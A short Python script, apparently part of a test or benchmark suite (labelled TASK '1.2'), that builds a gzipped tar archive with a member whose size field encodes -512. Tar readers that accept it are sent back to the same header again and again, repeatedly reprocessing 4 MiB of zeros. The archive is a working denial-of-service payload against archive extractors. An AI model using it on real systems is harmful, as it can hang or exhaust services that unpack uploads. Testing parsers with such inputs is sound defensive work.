"""A .tar.gz whose members have negative sizes: for each, all that came before is unpacked again."""

import gzip
from pathlib import Path

TASK = "1.2"
HONEST = []


def _header(name, size):
    header = bytearray(512)
    header[: len(name)] = name
    header[124:136] = size
    header[148:156] = b" " * 8
    header[156:157] = b"0"
    header[257:265] = b"ustar\x0000"
    header[148:156] = b"%06o\0 " % sum(header)
    return bytes(header)


def build(folder: Path) -> Path:
    zeros = 4 << 20
    back = _header(b"back", b"\xff" * 10 + b"\xfe\x00")  # -512: the same header again
    tar = _header(b"zeros", b"%011o\0" % zeros) + bytes(zeros) + back
    archive = folder.with_suffix(".tar.gz")
    archive.write_bytes(gzip.compress(tar + bytes(1024)))
    return archive
